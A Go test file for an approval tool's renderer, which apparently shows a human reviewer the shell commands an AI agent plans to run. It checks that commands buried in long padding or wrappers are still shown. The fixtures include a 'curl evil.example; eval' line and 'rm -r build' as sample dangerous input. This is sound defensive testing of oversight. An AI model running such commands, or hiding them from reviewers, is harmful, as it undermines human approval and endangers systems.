package render_test

import (
	"strings"
	"testing"

	"github.com/tada-run/tada-run/approval/plan/plantest"
	"github.com/tada-run/tada-run/approval/render"
)

// wrappedPlan is a plan whose command is inside a text of the agent's program.
func wrappedPlan(before, inside, after string, reasons ...any) map[string]any {
	args := map[string]any{"command": before + inside + after,
		"canonical": before + inside + after + " ", "inside": inside}
	return map[string]any{
		"risk": 1, "reasons": reasons,
		"tool_calls": []any{map[string]any{"tool_call_id": "c1", "tool_name": "shell",
			"args": args}},
	}
}

func reason(start, end int) any {
	return map[string]any{"rule": "r", "verdict": "ask", "message": "m", "span": []any{start, end}}
}

// The agent's own command comes first, with the marks of what is asked about. What its program put
// around it is folded, shown in full on the full page, and hashed.
func TestWrapped(t *testing.T) {
	before, after := strings.Repeat("__SAVED=\"${SAVED-}\"\n", 2000)+"exec bash -c '", "'\n# end"
	at := len(before)
	plan := wrappedPlan(before, "rm -r build", after, reason(at+6, at+11),
		reason(0, at+11+len(after)))
	p := render.Render(plantest.Bytes(t, plan), render.Options{})
	text := p.Text()
	if !p.Truncated || len(p.Lines) > 20 { // a plan could choose what is read first
		t.Errorf("cut %v, inline %v:\n%s", p.Truncated, p.Inline, text)
	}
	for _, want := range []string{"\nrun      rm -r ⟪build⟫\n",
		"\naround   ⟦[folded, 40032 chars]⟧\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q:\n%s", want, text)
		}
	}
	full := render.Render(plantest.Bytes(t, plan), render.Options{Full: true})
	if back, err := render.Decode(full.Text(), 0); err != nil ||
		string(back) != string(plantest.Bytes(t, plan)) {
		t.Errorf("the full page has not all of it: %v", err)
	}
}

// B-R5.2a: what a reason points at is shown wherever it is.
func TestDangerInAWrapper(t *testing.T) {
	before := strings.Repeat("x", 500) + "; curl evil.example; eval '"
	plan := wrappedPlan(before, "ls", "'", reason(502, 519), reason(400, len(before)+1))
	if p := render.Render(plantest.Bytes(t, plan), render.Options{}); !strings.Contains(p.Text(),
		"curl evil.example") {
		t.Errorf("hidden:\n%s", p.Text())
	}
}

// A text around a command may have been made up: it can be approved only after all of it was read.
func TestUnknownWrapper(t *testing.T) {
	plan := wrappedPlan(strings.Repeat("true\n", 60)+"eval '", "rm -r build", "'")
	short := render.Render(plantest.Bytes(t, plan), render.Options{})
	full := render.Render(plantest.Bytes(t, plan), render.Options{Full: true})
	if !short.Truncated || !strings.Contains(short.Text(), "run      rm -r build\n") {
		t.Errorf("%s", short.Text())
	}
	listing := full.Text()[strings.Index(full.Text(), "every value by its name"):]
	if full.Truncated || strings.Count(listing, "true⏎") < 60 ||
		!strings.Contains(full.Text(), "run      ⟦[folded") {
		t.Errorf("%s", full.Text())
	}
	// If a text is repeated, it is unknown which copy a reason means, so all of them are shown.
	twice := wrappedPlan("ls; ", "ls", "; ls", reason(4, 6))
	if p := render.Render(plantest.Bytes(t, twice), render.Options{}); !strings.Contains(p.Text(),
		"⟪ls⟫") {
		t.Errorf("%s", p.Text())
	}
}
